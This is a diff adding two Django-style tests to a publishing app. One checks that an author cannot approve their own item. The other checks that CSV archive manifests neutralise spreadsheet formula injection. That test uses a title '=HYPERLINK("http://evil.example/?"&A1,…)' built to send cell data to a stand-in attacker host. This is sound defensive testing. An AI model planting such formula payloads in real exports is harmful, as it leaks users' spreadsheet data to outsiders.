@@ -176,6 +176,46 @@ def test_feeds_sitemap_and_archive(client, world, people):
     assert client.get(f"/{d.slug}/archive/1999.zip").status_code == 404
 
 
+def test_the_author_sees_no_review_approval_or_publish_button_and_is_refused(client, world, people):
+    """Issue 11, failure 2, through the back office: the office admin who wrote the item
+    and also holds the reviewer role is refused at each step."""
+    from gongkai.accounts.services import membership_grant
+
+    d = world.department
+    membership_grant(actor=None, user=people.admin, organization=d, role=Role.REVIEWER)
+    publication = draft(d, people.admin)
+    services.publication_submit(actor=people.admin, publication=publication)
+    client.force_login(people.admin)
+    page = client.get(bo(d, f"publications/{publication.pk}/")).content.decode()
+    assert "pass-review" not in page and 'id="own-item"' in page
+    response = client.post(bo(d, f"publications/{publication.pk}/pass-review/"), follow=True)
+    publication.refresh_from_db()
+    assert publication.status == PublicationStatus.IN_REVIEW
+    assert "须由" in response.content.decode() or "another reviewer" in response.content.decode()
+    client.force_login(people.reviewer)
+    assert "pass-review" in client.get(bo(d, f"publications/{publication.pk}/")).content.decode()
+
+
+def test_archive_manifest_cells_cannot_run_as_formulas(client, world, people):
+    """Issue 11, failure 11: a title ``=HYPERLINK(…)`` went verbatim into manifest.csv."""
+    d = world.department
+    title = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    publication = draft(d, people.editor, title=title, summary="@SUM(1+1)", keywords="-2+3")
+    publish(publication, people, now=timezone.make_aware(dt.datetime(2024, 3, 8, 9)))
+    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/{d.slug}/archive/2024.zip").content))
+    import csv
+
+    rows = list(csv.reader(io.StringIO(archive.read("manifest.csv").decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + title in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    # The JSON manifest keeps the exact title: it is data, not a spreadsheet.
+    import json
+
+    [record] = json.loads(archive.read("manifest.json"))["publications"]
+    assert record["title"] == title
+
+
 def test_catalog_and_statistics_pages(client, world, people):
     d = world.department
     standard = services.catalog_for(None)
